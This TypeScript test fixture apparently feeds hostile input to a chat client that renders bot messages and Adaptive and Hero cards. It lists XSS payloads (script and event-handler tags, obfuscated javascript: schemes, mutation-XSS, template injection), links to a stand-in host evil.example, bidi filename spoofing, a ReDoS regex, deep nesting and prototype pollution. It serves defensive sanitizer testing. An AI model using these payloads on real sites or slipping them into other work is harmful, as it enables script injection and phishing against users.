/** Everything somebody could put into a text to make a visitor's browser do something. */

export const foreign = 'https://evil.example';
const script = 'window.notes.push(1)';

export const markup = [
  `<script>${script}</script>`,
  `<img src="${foreign}/x.png" onerror="${script}">`,
  `<svg onload="${script}"></svg>`,
  `<svg><script href="${foreign}/x.js"></script></svg>`,
  `<iframe src="${foreign}"></iframe>`,
  `<iframe srcdoc="<script>parent.${script}</script>"></iframe>`,
  `<object data="${foreign}"></object>`,
  `<embed src="${foreign}">`,
  `<link rel="stylesheet" href="${foreign}/x.css">`,
  `<style>@import "${foreign}/x.css"</style>`,
  `<meta http-equiv="refresh" content="0;url=${foreign}">`,
  `<base href="${foreign}/">`,
  `<form action="${foreign}"><button>x</button></form>`,
  `<a href="javascript:${script}">x</a>`,
  `<details open ontoggle="${script}">x</details>`,
  `<video src="${foreign}/x.mp4" autoplay onerror="${script}"></video>`,
  `<body onload="${script}">`,
  `<math><mtext></p><style><img src onerror="${script}"></style></mtext></math>`,
  `<template><img src="${foreign}/t.png"></template>`,
  `"><img src=x onerror=${script}>`,
  `'-${script}-'`,
  '{{constructor.constructor("alert(1)")()}}',
  `\${${script}}`,
  '<!--<img src="-->',
];
export const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  '\u0001javascript:',
  'javascript\u200b:',
  'vbscript:',
  'data:text/html,',
  'data:text/html;base64,',
  'blob:',
  'filesystem:',
  'file:///',
  'view-source:',
  'about:',
  'chrome:',
  'ws://',
  'ftp://',
  '//',
  '/\\',
  'https:\\\\',
  'ｊavascript:',
  '&#106;avascript:',
  '%6Aavascript:',
  'httpſ://',
];
const links = schemes.flatMap((scheme) => {
  const target = `${scheme}${script}`;
  return [
    `[x](${target})`,
    `<${target}>`,
    target,
    `![x](${target})`,
    `[x](<${target}>)`,
    `**[x](${target} "t")**`,
  ];
});
const pictures = [`![x](${foreign}/p.png)`, `![](${foreign}/p.png)`, `[![x](${foreign}/p.png)](${foreign})`];
const bidi = [
  '\u202e',
  '\u2066',
  '\u200f',
  '\u061c',
  '\ufeff',
  '\u0000',
  '\u001b[31m',
  '\u0085',
  '\u2028',
].flatMap((sign) => [
  `${sign}gpj.exe`,
  `https://shop.example/${sign}x`,
  `[https://shop.example](https://shop.example${sign}.evil.example)`,
]);
const odd = [
  '\ud800',
  '\udfff\ud800',
  'a\u0300'.repeat(500),
  '👩‍👩‍👧‍👦'.repeat(200),
  '﷽'.repeat(100),
  '('.repeat(5000),
  '*_~`[]('.repeat(2000),
  '[a]('.repeat(3000),
  '> '.repeat(2000),
  '`'.repeat(5001),
  'http://'.repeat(2000),
  '\n'.repeat(3000),
];

const message = (content: object): string => JSON.stringify(content);
const adaptive = (body: unknown, more: object = {}): string =>
  message({
    attachments: [
      {
        contentType: 'application/vnd.microsoft.card.adaptive',
        content: { type: 'AdaptiveCard', version: '1.5', body, ...more },
      },
    ],
  });
const hero = (content: object): string =>
  message({ attachments: [{ contentType: 'application/vnd.microsoft.card.hero', content }] });
const text = (words: string) => ({ type: 'TextBlock', text: words });

const cards = [
  ...markup.slice(0, 12).flatMap((words) => [
    adaptive([text(words)]),
    adaptive([{ type: 'RichTextBlock', inlines: [{ type: 'TextRun', text: words }] }]),
    adaptive([{ type: 'FactSet', facts: [{ title: words, value: words }] }]),
    adaptive([{ type: 'Input.Text', id: words, label: words, placeholder: words, value: words }]),
    hero({
      title: words,
      subtitle: words,
      text: words,
      buttons: [{ type: 'imBack', title: words, value: words }],
    }),
    message({
      text: words,
      suggestedActions: { actions: [{ type: 'imBack', title: words, value: words }] },
    }),
  ]),
  ...schemes.flatMap((scheme) => [
    adaptive([text(`[x](${scheme}${script})`)], {
      actions: [{ type: 'Action.OpenUrl', title: 'x', url: scheme + script }],
    }),
    hero({
      buttons: [
        { type: 'openUrl', title: 'x', value: scheme + script },
        { type: 'imBack', title: 'ok', value: 'ok' },
      ],
    }),
  ]),
  adaptive([{ type: 'Image', url: `${foreign}/p.png` }, text('x')]),
  adaptive([{ type: 'ImageSet', images: [{ type: 'Image', url: `${foreign}/p.png` }] }, text('x')]),
  adaptive([
    {
      type: 'Media',
      poster: `${foreign}/p.png`,
      sources: [{ url: `${foreign}/p.mp4`, mimeType: 'video/mp4' }],
    },
    text('x'),
  ]),
  adaptive([text('x')], { backgroundImage: `${foreign}/p.png` }),
  adaptive([{ type: 'Container', backgroundImage: { url: `${foreign}/p.png` }, items: [text('x')] }]),
  adaptive([
    {
      type: 'ColumnSet',
      columns: [
        {
          type: 'Column',
          width: 'auto',
          items: [
            {
              type: 'Image',
              url: `${foreign}/p.png`,
              selectAction: { type: 'Action.OpenUrl', url: 'javascript:1' },
            },
          ],
        },
      ],
    },
    text('x'),
  ]),
  adaptive([text('x')], {
    actions: [{ type: 'Action.OpenUrl', title: 'x', url: foreign, iconUrl: `${foreign}/p.png` }],
  }),
  adaptive([
    {
      type: 'Input.Text',
      id: 'a',
      regex: '(a+)+$',
      inlineAction: { type: 'Action.Submit', iconUrl: `${foreign}/p.png`, title: 'x' },
    },
  ]),
  adaptive([
    {
      type: 'Input.ChoiceSet',
      id: 'a',
      choices: [{ title: `<img src=${foreign}>`, value: 'x' }],
      'choices.data': { type: 'Data.Query', dataset: foreign },
    },
  ]),
  adaptive([text('x')], {
    refresh: { action: { type: 'Action.Execute', verb: 'x' } },
    authentication: { buttons: [{ type: 'signin', value: foreign }] },
  }),
  adaptive([
    {
      type: 'Table',
      columns: [{ width: 1 }],
      rows: [
        {
          type: 'TableRow',
          cells: [{ type: 'TableCell', items: [{ type: 'Image', url: `${foreign}/p.png` }] }],
        },
      ],
    },
    text('x'),
  ]),
  adaptive('not a list'),
  adaptive([null, 1, 'x', [], { type: 5 }]),
  message({
    attachments: [
      null,
      1,
      { contentType: 5 },
      { contentType: 'image/png', contentUrl: `${foreign}/p.png`, name: '<b>' },
      { contentType: 'text/html', contentUrl: 'javascript:1' },
    ],
  }),
  message({ attachments: 'x', suggestedActions: 'y' }),
  hero({
    images: [{ url: `${foreign}/p.png` }, { url: 'data:image/svg+xml,<svg onload=1>' }],
    tap: { type: 'openUrl', value: 'javascript:1' },
  }),
  `{"attachments":[{"contentType":"application/vnd.microsoft.card.adaptive","content":${'{"type":"Container","items":['.repeat(400)}${']}'.repeat(400)}}]}`,
  '{"__proto__":{"polluted":1},"attachments":[{"contentType":"application/vnd.microsoft.card.adaptive","content":{"type":"AdaptiveCard","__proto__":{"polluted":1},"body":[]}}]}',
];
export const payloads = [...markup, ...links, ...pictures, ...bidi, ...odd, ...cards];
/** What may be in a name: some of them, since each needs an agent of its own. */
export const names = [...markup.slice(0, 20), ...bidi.slice(0, 9), 'javascript:alert(1)', '😀'].map((name) =>
  name.slice(0, 200),
);
